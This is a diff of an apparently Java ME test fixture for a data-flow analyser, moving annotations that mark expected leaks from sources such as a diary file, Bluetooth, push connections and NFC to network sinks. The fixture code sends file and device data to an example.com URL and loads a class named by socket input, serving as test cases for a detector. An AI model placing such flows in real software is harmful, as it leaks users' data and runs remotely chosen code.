@@ -130,10 +130,10 @@ final class Sources {
     //# source-file
     static void file() throws Exception {
         FileConnection f = (FileConnection) Connector.open("file:///root1/diary.txt", 1);
-        InputStream in = f.openInputStream();
+        InputStream in = f.openInputStream(); //@ opened FileConnection.openInputStream
         byte[] data = new byte[100];
-        in.read(data); //@ read InputStream.read
-        Connector.open("http://example.com/?q=" + new String(data)); //! flow file@read -> network to=Connector.open argument=url path=Sources.file
+        in.read(data);
+        Connector.open("http://example.com/?q=" + new String(data)); //! flow file@opened -> network to=Connector.open argument=url path=Sources.file
     }
 
     //# source-location
@@ -211,8 +211,8 @@ final class Sources {
 
     //# source-server-text
     static void server() throws Exception {
-        DataInputStream in = Connector.openDataInputStream("socket://example.com:80");
-        Class.forName(in.readUTF()); //@ read DataInputStream.readUTF //! flow server-text@read -> class-name to=Class.forName argument=name path=Sources.server
+        DataInputStream in = Connector.openDataInputStream("socket://example.com:80"); //@ opened Connector.openDataInputStream
+        Class.forName(in.readUTF()); //! flow server-text@opened -> class-name to=Class.forName argument=name path=Sources.server
     }
 
     //# source-push-data
@@ -220,8 +220,8 @@ final class Sources {
         String[] waiting = PushRegistry.listConnections(true);
         ServerSocketConnection server = (ServerSocketConnection) Connector.open(waiting[0]);
         StreamConnection peer = server.acceptAndOpen();
-        DataInputStream in = peer.openDataInputStream();
-        Connector.open("http://example.com/?q=" + in.readUTF()); //@ read DataInputStream.readUTF //! flow push-data@read -> network to=Connector.open argument=url path=Sources.push
+        DataInputStream in = peer.openDataInputStream(); //@ opened InputConnection.openDataInputStream
+        Connector.open("http://example.com/?q=" + in.readUTF()); //! flow push-data@opened -> network to=Connector.open argument=url path=Sources.push
     }
 
     //# source-bluetooth-device
@@ -251,14 +251,14 @@ final class Sources {
 
     //# source-bluetooth-stream
     static void bluetoothStream() throws Exception {
-        DataInputStream in = Connector.openDataInputStream("btspp://0123456789AF:1");
-        Connector.open("http://example.com/?q=" + in.readUTF()); //@ read DataInputStream.readUTF //! flow bluetooth@read -> network to=Connector.open argument=url path=Sources.bluetoothStream
+        DataInputStream in = Connector.openDataInputStream("btspp://0123456789AF:1"); //@ opened Connector.openDataInputStream
+        Connector.open("http://example.com/?q=" + in.readUTF()); //! flow bluetooth@opened -> network to=Connector.open argument=url path=Sources.bluetoothStream
     }
 
     //# source-nfc
     static void nfc() throws Exception {
         NDEFTagConnection tag = (NDEFTagConnection) Connector.open("ndef:rf;type=nfc;uid=04ABCDEF");
-        byte[] data = tag.readNDEF().toByteArray(); //@ read NDEFTagConnection.readNDEF
+        byte[] data = tag.readNDEF().getRecord(0).getPayload(); //@ read NDEFRecord.getPayload
         Connector.openOutputStream("http://example.com/").write(data); //! flow nfc@read -> network to=OutputStream.write argument=1 path=Sources.nfc
     }
 
